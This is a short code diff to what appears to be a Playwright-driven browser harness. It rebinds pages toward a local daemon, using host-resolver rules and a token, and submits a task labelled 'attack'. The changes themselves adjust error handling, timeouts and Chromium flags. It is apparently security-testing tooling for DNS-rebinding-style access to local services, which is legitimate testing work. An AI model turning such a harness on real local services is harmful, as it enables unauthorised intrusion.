@@ -62,7 +62,7 @@ async function attempts({ target, token }) {
   const frame = new Uint8Array([0, 0, 0, 0, message.length, ...message]);
   const fetched = async (url, options) => {
     const answer = await fetch(url, options).catch(() => null);
-    const text = await answer?.text();
+    const text = (await answer?.text()) || answer?.headers.get("grpc-message");
     return answer?.status || text ? `${answer.status} ${text}` : null;
   };
   const called = (token) => tasks(target, token).submit(submission("attack")).then(({ id }) => id).catch(() => null);
@@ -139,12 +139,18 @@ const hosts = [
   "MAP * ~NOTFOUND",
   "EXCLUDE 127.0.0.1",
 ];
+// What starts this script limits the time.
 const browser = await chromium.launch({
   executablePath: program,
-  args: ["--no-sandbox", "--disable-gpu", "--disable-quic", `--host-resolver-rules=${hosts.join(", ")}`],
+  timeout: 0,
+  args: [
+    ...["--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage", "--disable-quic", "--no-proxy-server"],
+    `--host-resolver-rules=${hosts.join(", ")}`,
+  ],
 });
 async function inPage(url, act, target = daemon) {
   const tab = await browser.newPage();
+  tab.setDefaultTimeout(0);
   await tab.goto(url);
   if (target !== daemon) rebind();
   const seen = await tab.evaluate(act, { target, token });
